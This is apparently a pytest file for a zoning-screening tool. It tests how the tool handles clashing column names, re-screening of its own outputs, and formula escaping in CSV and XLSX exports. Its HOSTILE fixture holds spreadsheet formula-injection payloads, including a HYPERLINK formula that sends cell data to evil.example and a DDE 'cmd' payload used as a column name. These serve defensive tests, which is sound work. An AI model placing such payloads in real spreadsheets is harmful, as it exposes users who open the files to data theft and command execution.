"""Hostile but ordinary inputs (issue 22): any column name, ecozone's own outputs, formula text, messages.

Every input is built in code and hashed before and after the run: ecozone
never modifies what it reads.
"""

from __future__ import annotations

import json
import string
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from click.testing import CliRunner
from conftest import km_point, toy_layers, write_toy_gpkg
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from layers.base import clean_key
from spatial.cli import cli
from spatial.colnames import OWN_SITE_COLUMNS, SUFFIX
from spatial.errors import visible
from spatial.io import escape_formulas, unescape_formulas

PTS = {"IN_RL": (3.5, 3.5), "PLAIN": (18.0, 19.0)}
GOOD = {"IN_RL": "prohibited", "PLAIN": "compatible"}
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=1+1"]


def _lonlat() -> tuple[list[float], list[float]]:
    g = gpd.GeoSeries([km_point(*p) for p in PTS.values()], crs=4547).to_crs(4326)
    return list(g.x), list(g.y)


def _input_folder(tmp_path: Path) -> tuple[Path, Path]:
    """A fresh input folder holding the toy zoning: (folder, zoning GeoPackage)."""
    src = tmp_path / "in"
    src.mkdir()
    return src, write_toy_gpkg(src / "zoning.gpkg")


def _screen(args: list[str]) -> tuple[int, str]:
    res = CliRunner().invoke(cli, ["screen", *args])
    assert "Traceback" not in res.output
    return res.exit_code, res.output


def _verdicts(out: Path) -> dict[str, str]:
    t = pd.read_csv(out / "sites.csv", encoding="utf-8-sig", dtype=str)
    return dict(zip(t.site_id, t.verdict, strict=True))


def _folded_unique(names: list[str]) -> bool:
    keys = [clean_key(n) for n in names]
    return len(keys) == len(set(keys))


# --------------------------------------------------------------------------- column names


@pytest.mark.slow
@pytest.mark.filterwarnings("always::spatial.errors.EcozoneWarning")
def test_name_columns_reach_every_output_renamed(tmp_path: Path, hash_tree) -> None:
    """NAME, Verdict, FID, a/A and a nearest-column spelling: all screened, renamed visibly, mapped in run.json."""
    src, zoning = _input_folder(tmp_path)
    lon, lat = _lonlat()
    df = pd.DataFrame(
        {"site_id": list(PTS), "NAME": ["甲", "乙"], "project_type": "住宅", "lon": lon, "lat": lat, "Verdict": ["旧", "旧"],
         "FID": ["x", "y"], "a": [1, 2], "A": [3, 4], "Redline_Distance_M": [5, 6], "建设单位": ["某公司", "某局"]}
    )  # fmt: skip
    df.to_csv(src / "sites.csv", index=False)
    before = hash_tree(src)
    out = tmp_path / "out"
    code, text = _screen([str(src / "sites.csv"), "-z", str(zoning), "--out", str(out)])
    assert code == 0, text
    assert _verdicts(out) == GOOD
    renames = json.loads((out / "run.json").read_text(encoding="utf-8"))["column_renames"]
    assert renames == {"Verdict": f"Verdict{SUFFIX}", "FID": f"FID{SUFFIX}", "A": f"A{SUFFIX}", "Redline_Distance_M": f"Redline_Distance_M{SUFFIX}"}
    table = pd.read_csv(out / "sites.csv", encoding="utf-8-sig", dtype=str)
    assert table["name"].tolist() == ["甲", "乙"] and "NAME" not in table  # NAME is the name, not a second column
    assert table[f"A{SUFFIX}"].tolist() == ["3", "4"] and table["a"].tolist() == ["1", "2"]
    layer = pyogrio.read_dataframe(out / "screening.gpkg", layer="sites")
    cols = [c for c in layer.columns if c != "geometry"]
    assert _folded_unique(cols), cols
    assert layer[f"Verdict{SUFFIX}"].tolist() == ["旧", "旧"] and layer["建设单位"].tolist() == ["某公司", "某局"]
    head = [c.value for c in openpyxl.load_workbook(out / "report.xlsx")["汇总"][1]]
    assert _folded_unique(head) and f"FID{SUFFIX}" in head and "建设单位" in head
    assert hash_tree(src) == before


#: Column names a planner's file may hold: ecozone's own in any case, CJK, spaces, formula-like.
_OWN = [*OWN_SITE_COLUMNS, "redline_distance_m", "town_nearest", "project_type_raw"]
_names = st.one_of(
    st.sampled_from(_OWN).map(lambda s: s),
    st.sampled_from(_OWN).map(str.upper),
    st.sampled_from(_OWN).map(str.title),
    st.text(alphabet=string.ascii_letters + "_ -=+@" + "建设单位名称投资联系人备注甲乙" + "\u3000", min_size=1, max_size=10),
).filter(lambda s: s.strip() and clean_key(s) not in ("geometry", "lon", "lat", "x", "y", "wkt", "geom", "shape", "几何"))


@pytest.mark.slow
@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(names=st.lists(_names, min_size=1, max_size=6, unique=True))
def test_any_column_names_survive_csv_gpkg_xlsx(names: list[str], toy_zoning, tmp_path_factory) -> None:
    """Random column names survive a screen to CSV + GPKG + XLSX with their values, under unique names."""
    from maps.report import write_report
    from spatial import screen
    from spatial.colnames import RENAMES_ATTR
    from spatial.output import write_screening

    out = tmp_path_factory.mktemp("prop")
    g = gpd.GeoDataFrame({"site_id": list(PTS)}, geometry=[km_point(*p) for p in PTS.values()], crs=4547)
    for j, n in enumerate(names):
        g[n] = [f"v{j}r0", f"v{j}r1"]
    result = screen(g, toy_zoning, project_type="住宅")
    renames = result.sites.attrs.get(RENAMES_ATTR, {})
    write_screening(result, out)
    write_report(result, out, pdf=False, site_insets=False)
    csv = unescape_formulas(pd.read_csv(out / "sites.csv", encoding="utf-8-sig", dtype=str))
    gpkg = pyogrio.read_dataframe(out / "screening.gpkg", layer="sites")
    ws = openpyxl.load_workbook(out / "report.xlsx")["汇总"]
    head = [c.value for c in ws[1]]
    xlsx = pd.DataFrame([[c.value for c in row] for row in ws.iter_rows(min_row=2)], columns=head)
    assert _folded_unique([c for c in gpkg.columns if c != "geometry"])
    assert _folded_unique(list(csv.columns))
    for j, n in enumerate(names):
        want = [f"v{j}r0", f"v{j}r1"]
        folded = clean_key(n)
        if folded in ("site_id", "name", "project_type"):
            continue  # the same column in ecozone's spelling: it *is* site_id/name (or the type, overridden)
        if folded in ("id", "编号", "code", "项目名称", "名称", "mc", "xmmc", "dkbh", "xmbh") and n not in renames:
            continue  # read as the id / name column (its values became site_id / name)
        got = renames.get(n, n)
        assert csv[got].tolist() == want, (n, got)
        assert gpkg[got].astype(str).tolist() == want, (n, got)
        col = got if got in xlsx else f"{got}{SUFFIX}"
        assert xlsx[col].tolist() == want, (n, col, head)


@pytest.mark.slow
@pytest.mark.filterwarnings("always::spatial.errors.EcozoneWarning")
def test_own_outputs_rescreened_after_zoning_update(tmp_path: Path, hash_tree) -> None:
    """ecozone's sites.csv and screening.gpkg screen again under a changed zoning; the old verdict is kept beside."""
    src, zoning = _input_folder(tmp_path)
    lon, lat = _lonlat()
    pd.DataFrame({"site_id": list(PTS), "name": ["甲", "=乙"], "project_type": "住宅", "lon": lon, "lat": lat}).to_csv(src / "sites.csv", index=False)
    first = tmp_path / "first"
    code, text = _screen([str(src / "sites.csv"), "-z", str(zoning), "--out", str(first), "--no-map"])
    assert code == 0, text
    # the update: red line HX001/HX002 released
    layers = toy_layers()
    layers["redline"] = layers["redline"][layers["redline"]["BSM"] == "HX003"]
    new = tmp_path / "new"
    new.mkdir()
    for name, gdf in layers.items():
        gdf.to_file(new / "zoning.gpkg", layer=name, driver="GPKG")
    before = hash_tree(first)
    for i, own in enumerate((first / "sites.csv", first / "screening.gpkg")):
        out = tmp_path / f"again{i}"
        code, text = _screen([str(own), "-z", str(new / "zoning.gpkg"), "--out", str(out), "--no-map"])
        assert code == 0, text
        assert "识别为 ecozone 的筛查结果表" in text
        t = pd.read_csv(out / "sites.csv", encoding="utf-8-sig", dtype=str)
        assert dict(zip(t.site_id, t.verdict, strict=True))["IN_RL"] != "prohibited"
        assert t[f"verdict{SUFFIX}"].tolist() == ["prohibited", "compatible"]
        assert unescape_formulas(t)["name"].tolist() == ["甲", "=乙"]  # formula text round-trips through the escaped CSV
        assert not any(c.endswith(f"{SUFFIX}{SUFFIX}") or c == f"verdict_zh{SUFFIX}" for c in t.columns)
    assert hash_tree(first) == before


def test_columns_beside_the_chosen_ones_are_kept_not_dropped() -> None:
    """`site_id` beside --id-field 编号 and `project_type` under --project-type keep their data, renamed."""
    from spatial.colnames import RENAMES_ATTR
    from spatial.sites import prepare_sites

    g = gpd.GeoDataFrame(
        {"编号": ["A", "B"], "site_id": ["旧1", "旧2"], "project_type": ["化工", "住宅"], "Name": ["甲", "乙"], "NAME_": ["x", "y"]},
        geometry=[km_point(1, 1), km_point(2, 2)],
        crs=4547,
    )
    p = prepare_sites(g, id_field="编号", project_type="住宅")
    assert p["site_id"].tolist() == ["A", "B"] and p["name"].tolist() == ["甲", "乙"]
    assert p[f"site_id{SUFFIX}"].tolist() == ["旧1", "旧2"] and p[f"project_type{SUFFIX}"].tolist() == ["化工", "住宅"]
    assert p["NAME_"].tolist() == ["x", "y"] and "Name" not in p  # Name was the name; NAME_ is another column
    assert p.attrs[RENAMES_ATTR] == {"site_id": f"site_id{SUFFIX}", "project_type": f"project_type{SUFFIX}"}


# --------------------------------------------------------------------------- formulas


@pytest.mark.slow
def test_report_xlsx_runs_no_formulas(tmp_path: Path, hash_tree) -> None:
    """Hostile site names and 建设单位 values are text in report.xlsx (no cell of type 'f'), escaped in the CSV."""
    src, zoning = _input_folder(tmp_path)
    n = len(HOSTILE)
    g = gpd.GeoDataFrame(
        {"site_id": [f"S{i}" for i in range(n)], "name": HOSTILE, "project_type": "住宅", "建设单位": HOSTILE[::-1], "=cmd|' /C calc'!A0": HOSTILE},
        geometry=[km_point(3.5 + 0.1 * i, 3.5) for i in range(n)],
        crs=4547,
    ).to_crs(4326)
    g.to_file(src / "sites.gpkg", driver="GPKG")
    before = hash_tree(src)
    out = tmp_path / "out"
    code, text = _screen([str(src / "sites.gpkg"), "-z", str(zoning), "--out", str(out)])
    assert code == 0, text
    wb = openpyxl.load_workbook(out / "report.xlsx")
    formulas = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(HOSTILE) <= texts  # kept as typed, as text
    quoted = [c for ws in wb for row in ws.iter_rows() for c in row if c.value in HOSTILE[:5]]
    assert quoted and all(c.quotePrefix for c in quoted)
    import csv

    with open(out / "sites.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + HOSTILE[0] in cells and "'=cmd|' /C calc'!A0" in cells  # values and the header, escaped
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    back = unescape_formulas(pd.read_csv(out / "sites.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False))
    assert back["name"].tolist() == HOSTILE and back["建设单位"].tolist() == HOSTILE[::-1]
    assert hash_tree(src) == before


def test_formula_escaping_round_trips() -> None:
    """escape → unescape gives back every value; numbers stay numbers; plain text is untouched."""
    frame = pd.DataFrame({"t": [*HOSTILE, "plain", "'quoted", "", None, "中文"], "n": range(len(HOSTILE) + 5)})
    esc = escape_formulas(frame)
    assert esc["n"].dtype == frame["n"].dtype
    assert all(v[:1] not in ("=", "+", "-", "@", "\t", "\r") for v in esc["t"].dropna())
    assert esc["t"].fillna("<NA>").tolist()[-5:] == ["plain", "'quoted", "", "<NA>", "中文"]
    assert unescape_formulas(esc)["t"].fillna("<NA>").tolist() == frame["t"].fillna("<NA>").tolist()


# --------------------------------------------------------------------------- messages


def test_unknown_type_warning_shows_the_zero_width_space() -> None:
    """The library's own warning (what the web app shows too) names the invisible character."""
    from spatial.errors import DataWarning
    from spatial.project_types import DEFAULT_TYPES

    with pytest.warns(DataWarning, match=r"chemical\\u200b（行 1）"):
        DEFAULT_TYPES.normalise(pd.Series(["chemical\u200b", "住宅"]))


def test_visible_names_invisible_characters() -> None:
    assert visible("chemical\u200b") == "chemical\\u200b"
    assert visible("a\ufeffb\u00a0c\x00") == "a\\ufeffb\\xa0c\\x00"
    assert visible("中\u3000文 ok\n二行\t") == "中\u3000文 ok\n二行\t"


@pytest.mark.slow
def test_z_demo_in_every_zoning_command(tmp_path: Path) -> None:
    """`-z demo` names the bundled package in compare (twice) and diff, as in screen."""
    from spatial.zoning import demo_sites_path

    g = gpd.read_file(demo_sites_path()).head(3)
    sites = tmp_path / "s.gpkg"
    g.to_file(sites, driver="GPKG")
    res = CliRunner().invoke(cli, ["compare", str(sites), "-z", "demo", "-z", "demo", "--out", str(tmp_path / "cmp"), "--no-map"])
    assert res.exit_code == 0, res.output
    assert "does not exist" not in res.output
    res = CliRunner().invoke(cli, ["diff", "demo", "demo", "--out", str(tmp_path / "diff")])
    assert res.exit_code == 0, res.output


@pytest.mark.slow
def test_web_upload_of_a_google_earth_kml(tmp_path: Path) -> None:
    """A KML with Name/description (the column that used to collide with `name`) screens in the web app."""
    from fastapi.testclient import TestClient
    from serve_helpers import make_app, wait_job

    from spatial.zoning import demo_sites_path

    g = gpd.read_file(demo_sites_path()).head(2).to_crs(4326)
    kml = gpd.GeoDataFrame({"Name": ["甲地块", "乙地块"], "Description": ["说明一", "说明二"]}, geometry=g.geometry.representative_point().values, crs=4326)
    path = tmp_path / "sites.kml"
    kml.to_file(path, driver="KML")
    with TestClient(make_app(tmp_path / "data")) as client:
        r = client.post("/api/screenings", files=[("files", ("sites.kml", path.read_bytes(), "application/octet-stream"))], data={"project_type": "industrial"})
        assert r.status_code == 202, r.text
        doc = wait_job(client, r.json()["id"])
    assert doc["status"] == "done", doc.get("error")
    assert sorted(s["site_id"] for s in doc["sites"]) == ["乙地块", "甲地块"]
